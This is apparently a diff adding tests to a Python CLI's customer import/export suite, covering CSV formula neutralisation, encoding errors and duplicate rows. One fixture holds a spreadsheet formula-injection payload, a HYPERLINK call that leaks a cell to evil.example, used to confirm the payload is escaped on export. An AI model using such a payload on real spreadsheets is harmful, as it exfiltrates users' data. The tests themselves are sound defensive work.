@@ -37,6 +37,13 @@ def rapport(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]
     )
 
 
+def attempt(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
+    """``rapport`` run as one whose exit status the test checks itself."""
+    return subprocess.run(
+        [RAPPORT, *args], env=env, capture_output=True, text=True, timeout=120, check=False
+    )
+
+
 def free_port() -> int:
     with socket.socket() as probe:
         probe.bind(("127.0.0.1", 0))
@@ -195,6 +202,100 @@ def test_export_refuses_unknown_fields_tags_and_bad_conditions(
         assert result.returncode == 2, options
         assert message in result.stderr, (options, result.stderr)
         assert result.stdout == ""
+
+
+def test_exported_cells_that_would_run_as_formulas_are_neutralised(
+    environment: dict[str, str], tmp_path: Path
+) -> None:
+    rapport(environment, "db", "upgrade")
+    people = tmp_path / "people.csv"
+    people.write_text(
+        "email,first_name,last_name\n"
+        'eve@example.com,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",@SUM(A1)\n'
+        "mal@example.com,+1+1,-2+3\n",
+        encoding="utf-8",
+    )
+    rapport(environment, "import", "customers", str(people))
+    output = rapport(environment, "export", "customers").stdout
+    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","\'@SUM(A1)"' in output
+    names = {(row["first_name"], row["last_name"]) for row in csv.DictReader(io.StringIO(output))}
+    assert names == {
+        ('\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'@SUM(A1)"),
+        ("'+1+1", "'-2+3"),
+    }
+
+
+def test_import_reads_utf8_unless_told_and_reports_lines_invalid_in_the_encoding(
+    environment: dict[str, str], tmp_path: Path
+) -> None:
+    rapport(environment, "db", "upgrade")
+    mixed = tmp_path / "mixed.csv"
+    mixed.write_bytes(
+        b"first_name,last_name,email\n"
+        + "王,芳,wf@example.cn\n".encode("gb18030")
+        + "张伟,李娜,zw@example.cn\n".encode()
+    )
+    result = attempt(environment, "import", "customers", str(mixed))
+    assert result.returncode == 1, result.stderr
+    assert "2 rows (utf-8): 1 created, 0 updated, 0 unchanged, 0 merged, 1 rows rejected" in (
+        result.stderr
+    )
+    report = (tmp_path / "mixed.csv.errors.csv").read_text(encoding="utf-8")
+    [line] = csv.DictReader(io.StringIO(report))
+    assert (line["row"], line["code"]) == ("2", "INVALID_ENCODING")
+
+    chinese = tmp_path / "gb.csv"
+    chinese.write_bytes("first_name,last_name,email\n李,雷,ll@example.cn\n".encode("gb18030"))
+    read = rapport(environment, "import", "customers", str(chinese), "--encoding", "gb18030")
+    assert "1 rows (gb18030): 1 created" in read.stderr
+    exported = csv.DictReader(io.StringIO(rapport(environment, "export", "customers").stdout))
+    assert sorted(row["last_name"] for row in exported) == ["李娜", "雷"]
+
+    refused = attempt(environment, "import", "customers", str(chinese), "--encoding", "klingon")
+    assert refused.returncode == 2
+    assert "encoding: 'klingon' is not an encoding (INVALID)" in refused.stderr
+
+
+def test_rows_repeating_a_customer_are_reported_and_a_second_import_changes_nothing(
+    environment: dict[str, str], tmp_path: Path
+) -> None:
+    rapport(environment, "db", "upgrade")
+    people = tmp_path / "people.csv"
+    people.write_text(
+        "email,first_name,external_id:shop\n"
+        "ada@example.com,Ada,\n"
+        "ADA@Example.com,Augusta,\n"
+        "bob@example.com,Bob,7\n"
+        "rob@example.com,Rob,7\n",
+        encoding="utf-8",
+    )
+    counts = []
+    for _ in range(2):
+        result = attempt(environment, "import", "customers", str(people))
+        assert result.returncode == 1, result.stderr
+        counts.append(re.search(r"4 rows \(utf-8\): .* rows rejected", result.stderr))
+    assert [match.group() if match else None for match in counts] == [
+        "4 rows (utf-8): 2 created, 0 updated, 0 unchanged, 0 merged, 2 rows rejected",
+        "4 rows (utf-8): 0 created, 0 updated, 2 unchanged, 0 merged, 2 rows rejected",
+    ]
+    report = (tmp_path / "people.csv.errors.csv").read_text(encoding="utf-8")
+    assert [
+        (line["row"], line["column"], line["code"], line["message"])
+        for line in csv.DictReader(io.StringIO(report))
+    ] == [
+        ("3", "email", "DUPLICATE_IN_FILE", "row 2 of this file has this email already"),
+        (
+            "5",
+            "external_id:shop",
+            "DUPLICATE_IN_FILE",
+            "row 4 of this file has the external id shop:7 already",
+        ),
+    ]
+    exported = csv.DictReader(io.StringIO(rapport(environment, "export", "customers").stdout))
+    assert sorted((row["first_name"], row["version"]) for row in exported) == [
+        ("Ada", "1"),
+        ("Bob", "1"),
+    ]
 
 
 def test_recurring_jobs_are_listed_and_run_when_due(environment: dict[str, str]) -> None:
